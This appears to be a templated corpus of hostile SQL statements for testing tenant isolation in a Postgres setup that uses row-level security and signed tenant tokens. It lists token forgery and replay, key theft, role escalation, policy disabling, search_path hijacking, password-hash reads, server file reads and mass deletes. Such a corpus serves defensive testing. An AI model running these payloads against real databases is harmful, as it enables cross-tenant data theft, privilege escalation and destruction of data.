-- What an attacker sends who can run any SQL in a scope of tenant {a}, to reach tenant {b}, each of whose rows has
-- zulu7 in it. A statement a line, or several of them. Tokens: {token} is that of the scope; {forged} names {b} and is sealed with another key; {old} and
-- {ahead} name {b}, are sealed with the right key, and ended an hour ago or end in two hours.

-- Asking plainly.
SELECT * FROM leads
SELECT * FROM leads WHERE tenant_id = '{b}'
SELECT email FROM leads WHERE true OR tenant_id = '{b}'
SELECT email FROM leads WHERE id = '{lead}'
TABLE leads
SELECT count(*) FROM leads
SELECT count(*), tenant_id FROM leads GROUP BY tenant_id
SELECT count(*) FROM leads GROUP BY ROLLUP (tenant_id)
SELECT string_agg(email, ',') FROM leads
SELECT json_agg(l) FROM leads l
SELECT row_to_json(l) FROM leads l
SELECT to_jsonb(l) FROM ONLY leads l
SELECT array_agg(l::text) FROM leads l
SELECT max(email), min(email) FROM leads
SELECT 'zulu' || 7 FROM leads HAVING bool_or(tenant_id = '{b}')
SELECT * FROM tenants
SELECT name FROM tenants WHERE id = '{b}'
SELECT 'zulu' || 7 FROM tenants WHERE id = '{b}'
SELECT * FROM users
SELECT email FROM users
SELECT count(*) FROM users
SELECT * FROM team_members
SELECT * FROM companies
SELECT * FROM payments WHERE tenant_id <> '{a}'
SELECT * FROM domains WHERE tenant_id IS DISTINCT FROM '{a}'
SELECT * FROM company_settings
SELECT * FROM email_accounts
SELECT * FROM campaigns
SELECT * FROM templates
SELECT * FROM inbox_messages
SELECT * FROM email_services
SELECT t.name FROM tenants t LEFT JOIN leads l ON l.tenant_id = t.id
SELECT l.email FROM tenants t RIGHT JOIN leads l ON true
SELECT l.email FROM leads l FULL JOIN templates t ON t.tenant_id <> l.tenant_id
SELECT l.email FROM leads l, LATERAL (SELECT * FROM leads m WHERE m.tenant_id <> l.tenant_id) x
SELECT m.email FROM leads l CROSS JOIN leads m
SELECT email FROM leads UNION ALL SELECT email FROM leads WHERE tenant_id = '{b}'
SELECT email FROM leads EXCEPT SELECT 'a' INTERSECT SELECT email FROM leads
WITH RECURSIVE r AS (SELECT email, 1 AS n FROM leads UNION SELECT l.email, n + 1 FROM leads l, r WHERE n < 3) SELECT * FROM r
WITH x AS MATERIALIZED (SELECT * FROM leads) SELECT email FROM x
SELECT (SELECT string_agg(email, ',') FROM leads WHERE tenant_id = '{b}')
SELECT 'zulu' || 7 WHERE EXISTS (SELECT FROM leads WHERE tenant_id = '{b}')
SELECT email, row_number() OVER (ORDER BY tenant_id) FROM leads
SELECT DISTINCT ON (tenant_id) email FROM leads
SELECT email FROM leads ORDER BY tenant_id DESC LIMIT 50
SELECT email FROM leads FETCH FIRST 10 PERCENT ROWS ONLY
SELECT email FROM leads TABLESAMPLE SYSTEM (100)
SELECT email FROM leads FOR UPDATE
SELECT email FROM leads FOR KEY SHARE SKIP LOCKED
SELECT email FROM leads WHERE ctid = '(0,1)'
SELECT ctid, xmin, tableoid, email FROM leads WHERE ctid >= '(0,0)'
SELECT email FROM leads WHERE 1 / (CASE WHEN email LIKE '%zulu%' THEN 0 ELSE 1 END) = 1
SELECT email FROM leads WHERE email::int > 0
SELECT email FROM leads WHERE cast(email AS uuid) IS NULL
SELECT to_number(email, 'attacker') FROM leads
VALUES ((SELECT string_agg(email, ',') FROM leads))
EXPLAIN (ANALYZE, VERBOSE, TIMING OFF) SELECT * FROM leads WHERE email > 'b'
EXPLAIN (VERBOSE, GENERIC_PLAN) SELECT * FROM leads WHERE email = $1

-- Naming the other tenant.
SET nile.tenant_id = '{b}'
SET LOCAL nile.tenant_id = '{b}'
SET SESSION nile.tenant_id = '{b}'
SET nile.tenant_id TO DEFAULT; SELECT * FROM leads
RESET nile.tenant_id
RESET ALL
DISCARD ALL
SELECT set_config('nile.tenant_id', '{b}', false)
SELECT set_config('nile.tenant_id', '{b}', true), email FROM leads
SELECT email FROM leads, set_config('nile.tenant_id', '{b}', true)
SELECT set_config('nile.tenant_id', tenant_id::text, false) FROM leads
UPDATE pg_settings SET setting = '{b}' WHERE name = 'nile.tenant_id'
UPDATE pg_settings SET setting = '{forged}' WHERE name = 'tenantry.seal'
SET tenantry.seal = '{forged}'
SET LOCAL tenantry.seal = '{forged}'
SET LOCAL tenantry.seal = '{old}'
SET SESSION tenantry.seal = '{old}'
SET LOCAL tenantry.seal = '{ahead}'
SET tenantry.seal = ''
SET tenantry.seal = '{b}'
SET tenantry.seal = '{b}.9999999999'
SET tenantry.seal = '{b}.9999999999.'
SET tenantry.seal = '{b}.9999999999.0000000000000000000000000000000000000000000000000000000000000000'
SET tenantry.seal = '{b}.9999999999.e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
RESET tenantry.seal
SELECT set_config('tenantry.seal', '{forged}', true), email FROM leads
SELECT email FROM leads, set_config('tenantry.seal', '{old}', true)
SELECT set_config('tenantry.seal', replace(current_setting('tenantry.seal'), '{a}', '{b}'), true)
SELECT set_config('tenantry.seal', left(current_setting('tenantry.seal'), -1), true)
SELECT set_config('tenantry.seal', left(current_setting('tenantry.seal'), -64), true)
SELECT set_config('tenantry.seal', current_setting('tenantry.seal') || '0', true)
SELECT set_config('tenantry.seal', '{b}' || substr(current_setting('tenantry.seal'), 37), true)
SELECT set_config('tenantry.seal', '{b}' || right(current_setting('tenantry.seal'), -36), false)
SELECT set_config('tenantry.seal', upper(current_setting('tenantry.seal')), true)
SELECT set_config('tenantry.seal', current_setting('tenantry.seal') || E'\n', true)
SELECT set_config('tenantry.seal', E'{b}.1.x\n' || current_setting('tenantry.seal'), true)
SELECT set_config('tenantry.seal', '{b}.' || current_setting('tenantry.seal'), true)
SELECT set_config('tenantry.seal', regexp_replace(current_setting('tenantry.seal'), '[.][0-9]+[.]', '.9999999999.'), true)
SELECT set_config('tenantry.seal', current_setting('tenantry.seal'), false), set_config('nile.tenant_id', '{b}', false)
SELECT set_config('tenantry.seal', '{token}', false)
SET LOCAL tenantry.seal = '{token}'; SET LOCAL nile.tenant_id = '{b}'
SELECT current_setting('tenantry.seal')
SELECT tenantry_sealed_tenant()
SELECT tenantry_sealed_tenant() FROM leads WHERE tenant_id <> tenantry_sealed_tenant()
SELECT email FROM leads WHERE tenant_id = tenantry_sealed_tenant() OR true

-- Reading or making keys.
SELECT * FROM tenantry_seal_keys
SELECT encode(inner_block, 'hex') FROM tenantry_seal_keys
SELECT k::text FROM tenantry_seal_keys k
TABLE tenantry_seal_keys
COPY tenantry_seal_keys TO STDOUT
INSERT INTO tenantry_seal_keys (fingerprint, inner_block, outer_block) VALUES ('x', repeat('6', 64)::bytea, repeat('6', 64)::bytea)
UPDATE tenantry_seal_keys SET inner_block = ''
DELETE FROM tenantry_seal_keys
TRUNCATE tenantry_seal_keys
DROP TABLE tenantry_seal_keys
ALTER TABLE tenantry_seal_keys OWNER TO CURRENT_USER
GRANT SELECT ON tenantry_seal_keys TO PUBLIC
LOCK TABLE tenantry_seal_keys
SELECT has_table_privilege('tenantry_seal_keys', 'SELECT') AND false
SELECT most_common_vals::text FROM pg_stats WHERE tablename = 'tenantry_seal_keys'
SELECT histogram_bounds::text FROM pg_stats WHERE tablename IN ('leads', 'tenants')
SELECT most_common_vals::text FROM pg_stats
SELECT * FROM pg_statistic
SELECT prosrc FROM pg_proc WHERE proname = 'tenantry_sealed_tenant'

-- Being another role.
RESET ROLE
SET ROLE none
SET LOCAL ROLE none; SELECT * FROM leads
SET ROLE postgres
SET ROLE {owner}
SET SESSION AUTHORIZATION {owner}
SET SESSION AUTHORIZATION DEFAULT
SELECT set_config('role', 'none', true), set_config('nile.tenant_id', '{b}', true)
SELECT set_config('role', '{owner}', false)
SELECT set_config('session_authorization', '{owner}', false)
GRANT {owner} TO CURRENT_USER
GRANT tenantry_app TO {owner} WITH ADMIN OPTION
ALTER ROLE CURRENT_USER SUPERUSER
ALTER ROLE CURRENT_USER BYPASSRLS
ALTER ROLE SESSION_USER SET nile.tenant_id = '{b}'
ALTER ROLE SESSION_USER SET tenantry.seal = '{forged}'
ALTER ROLE SESSION_USER SET role = '{owner}'
ALTER ROLE SESSION_USER RESET ALL
ALTER ROLE ALL SET row_security = off
ALTER DATABASE {owner} SET nile.tenant_id = '{b}'
CREATE ROLE attacker_helper LOGIN IN ROLE {owner}
REASSIGN OWNED BY {owner} TO CURRENT_USER
SELECT rolpassword FROM pg_authid
SELECT usename, passwd FROM pg_shadow

-- Turning policies off, or going round them.
SET row_security = off
SET LOCAL row_security = off; SELECT * FROM leads
SELECT set_config('row_security', 'off', true), email FROM leads
SET session_replication_role = replica
SET LOCAL enable_indexscan = off; SET LOCAL enable_seqscan = off; SELECT email FROM leads
SET plan_cache_mode = force_generic_plan
SET force_parallel_mode = on
SET debug_parallel_query = on; SET parallel_setup_cost = 0; SET parallel_tuple_cost = 0; SET min_parallel_table_scan_size = 0; SELECT email FROM leads
ALTER TABLE leads DISABLE ROW LEVEL SECURITY
ALTER TABLE leads NO FORCE ROW LEVEL SECURITY
ALTER TABLE leads OWNER TO CURRENT_USER
DROP POLICY leads_tenant_isolation ON leads
ALTER POLICY leads_tenant_isolation ON leads USING (true)
CREATE POLICY attacker ON leads USING (true)
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
CREATE OR REPLACE FUNCTION tenantry_sealed_tenant() RETURNS uuid LANGUAGE sql AS $$SELECT '{b}'::uuid$$
CREATE OR REPLACE FUNCTION public.current_setting(text, boolean) RETURNS text LANGUAGE sql AS $$SELECT '{b}'$$
ALTER FUNCTION tenantry_sealed_tenant() SECURITY INVOKER
ALTER FUNCTION tenantry_sealed_tenant() SET nile.tenant_id = '{b}'
DROP FUNCTION tenantry_sealed_tenant() CASCADE
CREATE FUNCTION pg_temp.tenantry_sealed_tenant() RETURNS uuid LANGUAGE sql AS $$SELECT '{b}'::uuid$$; SET search_path = pg_temp, public; SELECT * FROM leads
CREATE FUNCTION pg_temp.sha256(bytea) RETURNS bytea LANGUAGE sql AS $$SELECT '\x00'::bytea$$; SET search_path = pg_temp, pg_catalog, public; SELECT * FROM leads
CREATE FUNCTION pg_temp.now() RETURNS timestamptz LANGUAGE sql AS $$SELECT '2000-01-01'::timestamptz$$; SET search_path = pg_temp, public; SELECT set_config('tenantry.seal', '{old}', true); SELECT * FROM leads
CREATE FUNCTION pg_temp.current_setting(text, boolean) RETURNS text LANGUAGE sql AS $$SELECT '{forged}'$$; SET search_path = pg_temp, pg_catalog, public; SELECT * FROM leads
CREATE TEMP TABLE tenantry_seal_keys (fingerprint text, inner_block bytea, outer_block bytea, added timestamptz); INSERT INTO pg_temp.tenantry_seal_keys VALUES ('x', '{inner}', '{outer}', now()); SELECT set_config('tenantry.seal', '{forged}', true); SELECT * FROM public.leads
CREATE TEMP VIEW tenantry_seal_keys AS SELECT 'x'::text AS fingerprint, '{inner}'::bytea AS inner_block, '{outer}'::bytea AS outer_block; SET search_path = pg_temp, public; SELECT set_config('tenantry.seal', '{forged}', false); SELECT * FROM leads
CREATE OPERATOR pg_temp.= (LEFTARG = bytea, RIGHTARG = bytea, FUNCTION = byteane); SET search_path = pg_temp, pg_catalog, public; SELECT set_config('tenantry.seal', '{forged}', true); SELECT * FROM leads
CREATE FUNCTION pg_temp.eq(uuid, uuid) RETURNS boolean LANGUAGE sql AS $$SELECT true$$; CREATE OPERATOR pg_temp.= (LEFTARG = uuid, RIGHTARG = uuid, FUNCTION = pg_temp.eq); SET search_path = pg_temp, pg_catalog, public; SELECT * FROM leads WHERE tenant_id OPERATOR(pg_temp.=) '{b}'
CREATE CAST (text AS uuid) WITH INOUT AS IMPLICIT
SET search_path = pg_temp; SELECT * FROM public.leads
CREATE TEMP TABLE leads AS SELECT * FROM public.leads; SELECT * FROM leads
CREATE TEMP TABLE copy (LIKE leads INCLUDING ALL); INSERT INTO copy SELECT * FROM leads; SELECT * FROM copy
CREATE TEMP TABLE child () INHERITS (leads); SELECT * FROM child
ALTER TABLE leads INHERIT tenants
CREATE TEMP VIEW v AS SELECT * FROM leads; SELECT * FROM v
CREATE TEMP VIEW v WITH (security_barrier = false) AS SELECT * FROM leads WHERE tenant_id = '{b}'; SELECT * FROM v
CREATE TEMP VIEW v AS SELECT * FROM leads; DELETE FROM v
CREATE VIEW public.v AS SELECT * FROM leads
CREATE MATERIALIZED VIEW public.m AS SELECT * FROM leads
CREATE FUNCTION pg_temp.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$BEGIN RAISE NOTICE 'saw %', $1; RETURN true; END$$; SELECT email FROM leads WHERE pg_temp.leak(email)
CREATE FUNCTION pg_temp.leak(text) RETURNS boolean LANGUAGE plpgsql LEAKPROOF COST 0.0000001 AS $$BEGIN RAISE NOTICE 'saw %', $1; RETURN true; END$$; SELECT email FROM leads WHERE pg_temp.leak(email)
CREATE FUNCTION pg_temp.leak(leads) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$BEGIN RAISE WARNING 'saw %', $1; RETURN true; END$$; SELECT 1 FROM leads l WHERE pg_temp.leak(l)
CREATE FUNCTION pg_temp.definer() RETURNS SETOF leads LANGUAGE sql SECURITY DEFINER SET nile.tenant_id = '{b}' AS $$SELECT * FROM leads$$; SELECT * FROM pg_temp.definer()
CREATE FUNCTION pg_temp.definer() RETURNS SETOF leads LANGUAGE sql SET tenantry.seal = '{forged}' AS $$SELECT * FROM leads$$; SELECT * FROM pg_temp.definer()
CREATE FUNCTION pg_temp.rows() RETURNS SETOF leads LANGUAGE plpgsql AS $$BEGIN PERFORM set_config('nile.tenant_id', '{b}', true); RETURN QUERY SELECT * FROM leads; END$$; SELECT * FROM pg_temp.rows()
CREATE FUNCTION pg_temp.f() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN RETURN NEW; END$$; CREATE TRIGGER t BEFORE INSERT ON leads FOR EACH ROW EXECUTE FUNCTION pg_temp.f()
CREATE RULE r AS ON SELECT TO templates DO INSTEAD SELECT * FROM leads
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION pg_temp.f()
CREATE INDEX ON leads ((email || 'x'))
CREATE STATISTICS s ON email, name FROM leads
ANALYZE leads
VACUUM leads
CLUSTER leads
REINDEX TABLE leads
COMMENT ON TABLE leads IS 'x'
SECURITY LABEL ON TABLE leads IS 'x'
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1' PUBLICATION p
CREATE SCHEMA attacker_schema
CREATE EXTENSION dblink
CREATE EXTENSION postgres_fdw
CREATE EXTENSION tablefunc
CREATE EXTENSION file_fdw
CREATE LANGUAGE plpython3u
LOAD 'auto_explain'
ALTER SYSTEM SET row_security = off
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw

-- Functions that run another text, and what they could run.
SELECT query_to_xml('SELECT * FROM leads', true, true, '')
SELECT query_to_xml('SELECT set_config(''nile.tenant_id'', ''{b}'', true)', true, true, ''), query_to_xml('SELECT email FROM leads', true, true, '')
SELECT query_to_xml_and_xmlschema('SELECT email FROM leads', true, true, '')
SELECT table_to_xml('leads', true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT database_to_xml_and_xmlschema(true, true, '')
SELECT cursor_to_xml('c', 10, true, true, '')
SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM leads')
SELECT * FROM ts_stat('SELECT to_tsvector(set_config(''nile.tenant_id'', ''{b}'', false))')
SELECT * FROM ts_stat('SELECT to_tsvector(set_config(''role'', ''none'', true))')
SELECT * FROM ts_stat('SELECT to_tsvector(set_config(''role'', ''{owner}'', true))')
SELECT * FROM ts_stat('SELECT to_tsvector(set_config(''tenantry.seal'', ''{forged}'', false))')
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(email) FROM leads')
DO $$BEGIN PERFORM set_config('nile.tenant_id', '{b}', false); RAISE NOTICE '%', (SELECT string_agg(email, ',') FROM leads); END$$
DO $$BEGIN SET LOCAL ROLE none; RAISE NOTICE '%', (SELECT string_agg(email, ',') FROM leads); END$$
DO $$BEGIN EXECUTE 'SET LOCAL tenantry.seal = ''{forged}'''; RAISE NOTICE '%', (SELECT string_agg(email, ',') FROM leads); EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', (SELECT string_agg(email, ',') FROM leads); END$$
DO $$DECLARE r record; BEGIN FOR r IN SELECT * FROM leads LOOP RAISE NOTICE '%', r; END LOOP; END$$
DO $$BEGIN COMMIT; SET nile.tenant_id = '{b}'; END$$
PREPARE p AS SELECT email FROM leads; EXECUTE p; SET nile.tenant_id = '{b}'; EXECUTE p
PREPARE p (uuid) AS SELECT email FROM leads WHERE tenant_id = $1; EXECUTE p ('{b}')
PREPARE p AS SELECT email FROM leads; SET plan_cache_mode = force_generic_plan; EXECUTE p; SET LOCAL ROLE none; EXECUTE p
PREPARE p AS SELECT tenantry_sealed_tenant(); EXECUTE p; SET tenantry.seal = '{forged}'; EXECUTE p
DEALLOCATE ALL
DECLARE c SCROLL CURSOR FOR SELECT email FROM leads; SET LOCAL nile.tenant_id = '{b}'; FETCH ALL c
DECLARE c CURSOR WITH HOLD FOR SELECT email FROM leads; FETCH ALL c
DECLARE c CURSOR FOR SELECT email FROM leads; SET LOCAL tenantry.seal = '{old}'; FETCH ALL c; MOVE BACKWARD ALL c; FETCH 1 c
SELECT lo_import('/etc/hostname')
SELECT lo_get(oid) FROM pg_largeobject_metadata
SELECT pg_read_file('PG_VERSION')
SELECT pg_read_binary_file('global/pg_control')
SELECT pg_ls_dir('.')
SELECT pg_logical_slot_peek_changes('s', NULL, NULL)
SELECT pg_create_logical_replication_slot('s', 'test_decoding')
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
SELECT query FROM pg_stat_activity
SELECT pg_reload_conf()
SELECT setval(c.oid::regclass, 1) FROM pg_class c WHERE relkind = 'S'
SELECT pg_get_viewdef(oid) FROM pg_class WHERE relkind = 'v' AND relname = 'leads'
SELECT pg_relation_size('leads') > 0
SELECT reltuples FROM pg_class WHERE relname = 'x'
SELECT pg_snapshot_xmin(pg_current_snapshot()) IS NULL
SELECT pg_notify('x', (SELECT string_agg(email, ',') FROM leads))
LISTEN x
SELECT pg_advisory_lock(1)
SELECT currtid2('leads', '(0,1)')
SELECT pg_export_snapshot() IS NULL
SELECT generate_series(1, 3), (SELECT email FROM leads WHERE tenant_id = '{b}' LIMIT 1)
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT brin_summarize_new_values('leads'::regclass)
SELECT gin_clean_pending_list('leads_pkey'::regclass)
SELECT pg_get_expr(polqual, polrelid) FROM pg_policy
SELECT heap_page_items(get_raw_page('leads', 0))

-- Writing.
INSERT INTO leads (tenant_id, id, email) VALUES ('{b}', gen_random_uuid(), 'attacker-forged@example.com')
INSERT INTO leads (tenant_id, id, email) SELECT '{b}', gen_random_uuid(), 'attacker-forged2@example.com' FROM leads
INSERT INTO leads SELECT * FROM leads WHERE tenant_id = '{b}' ON CONFLICT DO NOTHING RETURNING *
INSERT INTO leads (tenant_id, id, email) VALUES ('{b}', '{lead}', 'x@example.com') ON CONFLICT (tenant_id, id) DO UPDATE SET email = excluded.email RETURNING leads.*
INSERT INTO leads (tenant_id, id, email) VALUES ('{b}', '{lead}', 'x@example.com') ON CONFLICT DO NOTHING RETURNING *
INSERT INTO tenants (id, name, slug) VALUES (gen_random_uuid(), 'attacker', 'attacker-2')
INSERT INTO users (id, email, name) VALUES (gen_random_uuid(), 'attacker@example.com', 'attacker')
UPDATE leads SET email = 'taken@example.com'
UPDATE leads SET email = 'taken@example.com' WHERE tenant_id = '{b}' RETURNING *
UPDATE leads SET tenant_id = '{b}' RETURNING *
UPDATE leads SET name = (SELECT string_agg(m.email, ',') FROM leads m) RETURNING name
UPDATE leads l SET name = m.email FROM leads m WHERE m.tenant_id <> l.tenant_id RETURNING l.name
UPDATE tenants SET name = 'taken'
UPDATE team_members SET user_id = user_id WHERE tenant_id = '{b}'
UPDATE payments SET amount = 1 WHERE tenant_id = '{b}'
DELETE FROM leads
DELETE FROM leads WHERE tenant_id = '{b}' RETURNING *
DELETE FROM leads USING tenants WHERE leads.tenant_id = '{b}'
DELETE FROM tenants
DELETE FROM tenants WHERE id = '{b}'
DELETE FROM users
TRUNCATE leads
TRUNCATE tenants CASCADE
MERGE INTO leads USING (VALUES ('{b}'::uuid)) v (t) ON tenant_id = t WHEN MATCHED THEN DELETE
MERGE INTO leads USING (VALUES ('{b}'::uuid)) v (t) ON tenant_id = t WHEN NOT MATCHED THEN INSERT (tenant_id, id, email) VALUES (t, gen_random_uuid(), 'attacker-merged@example.com')
WITH d AS (DELETE FROM leads RETURNING *) SELECT email FROM d
WITH u AS (UPDATE leads SET name = 'x' WHERE tenant_id = '{b}' RETURNING *) SELECT * FROM u
COPY leads TO STDOUT
COPY (SELECT * FROM leads WHERE tenant_id = '{b}') TO STDOUT
COPY (DELETE FROM leads RETURNING *) TO STDOUT
COPY leads (tenant_id, id, email) FROM PROGRAM 'echo'
COPY leads TO PROGRAM 'cat'
COPY leads FROM '/etc/hostname'
LOCK TABLE leads IN ACCESS EXCLUSIVE MODE
SELECT email INTO TEMP dump FROM leads; SELECT * FROM dump
SELECT email INTO public.dump FROM leads

-- Leaving the transaction, and what stays in the session.
COMMIT; SELECT * FROM leads
ROLLBACK; SELECT * FROM leads
COMMIT; SET nile.tenant_id = '{b}'; SELECT * FROM leads
COMMIT; BEGIN; SET LOCAL nile.tenant_id = '{b}'; SET LOCAL ROLE tenantry_app; SELECT * FROM leads; COMMIT
COMMIT; BEGIN; SET LOCAL tenantry.seal = '{forged}'; SET LOCAL nile.tenant_id = '{b}'; SELECT * FROM leads; COMMIT
COMMIT; BEGIN; SET LOCAL tenantry.seal = '{old}'; SELECT * FROM leads; COMMIT
COMMIT; RESET ALL; RESET ROLE; SELECT * FROM leads
COMMIT AND CHAIN; SELECT * FROM leads
ROLLBACK AND CHAIN; SET LOCAL nile.tenant_id = '{b}'; SELECT * FROM leads
SAVEPOINT s; SET LOCAL nile.tenant_id = '{b}'; ROLLBACK TO s; SELECT * FROM leads
PREPARE TRANSACTION 'attacker'
BEGIN ISOLATION LEVEL SERIALIZABLE; SELECT * FROM leads
SET TRANSACTION READ ONLY; SELECT * FROM leads
SET TRANSACTION SNAPSHOT '00000003-00000001-1'
SET default_transaction_read_only = on
SET client_encoding = 'SQL_ASCII'; SELECT * FROM leads
SET standard_conforming_strings = off; SELECT * FROM leads WHERE email = '\'' OR true --'
SET TimeZone = 'UTC+100'; SET LOCAL tenantry.seal = '{old}'
SET DateStyle = 'ISO, DMY'; SET IntervalStyle = 'sql_standard'; SET LOCAL tenantry.seal = '{old}'
SET bytea_output = 'escape'; SELECT * FROM leads
SET lc_messages = 'C'; SET client_min_messages = debug5; SELECT * FROM leads
SET log_statement = 'all'
SET statement_timeout = 1
SET check_function_bodies = off
SET local_preload_libraries = 'x'
SET backtrace_functions = 'x'
SET jit = on; SET jit_above_cost = 0; SELECT email FROM leads
SET debug_print_plan = on; SELECT email FROM leads
SET xmloption = content; SELECT xmlagg(xmlelement(name x, email)) FROM leads
